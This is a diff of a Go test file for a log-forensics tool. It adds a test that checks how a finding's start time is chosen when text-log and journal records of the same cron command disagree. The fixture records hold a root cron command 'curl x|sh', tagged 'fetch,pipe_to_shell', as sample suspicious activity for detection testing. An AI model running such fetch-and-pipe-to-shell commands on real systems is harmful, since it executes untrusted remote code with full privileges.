@@ -10,6 +10,7 @@ import (
 	"icecore/forensics/filesystem"
 	"icecore/forensics/model"
 	"icecore/forensics/model/modeltest"
+	"icecore/forensics/twins"
 )
 
 const (
@@ -245,5 +246,28 @@ func TestRan(t *testing.T) {
 				t.Errorf("%+v", res.Findings)
 			}
 		})
+	}
+}
+
+// TestOlderText: where a text goes further back than the journal does, the finding about a
+// command of cron begins with it.
+func TestOlderText(t *testing.T) {
+	for _, tt := range []struct {
+		earlier time.Duration
+		want    time.Duration
+	}{{time.Hour, -time.Hour}, {twins.SameMoment, 0}} {
+		var s scene
+		for _, where := range []string{textLog, journalLog} {
+			r := logRecord(where, "cron.run", time.Hour, "user", "root", "command", "curl x|sh", "count", "3", "traits", "fetch,pipe_to_shell")
+			r.Times[0].Time = noon
+			if where == textLog {
+				r.Times[0].Time = noon.Add(-tt.earlier)
+			}
+			s.records = append(s.records, r)
+		}
+		f := s.run(t).Findings
+		if len(f) != 1 || !f[0].When.Time.Equal(noon.Add(tt.want)) || len(f[0].Records) != 2 {
+			t.Errorf("%s earlier: %+v", tt.earlier, f)
+		}
 	}
 }
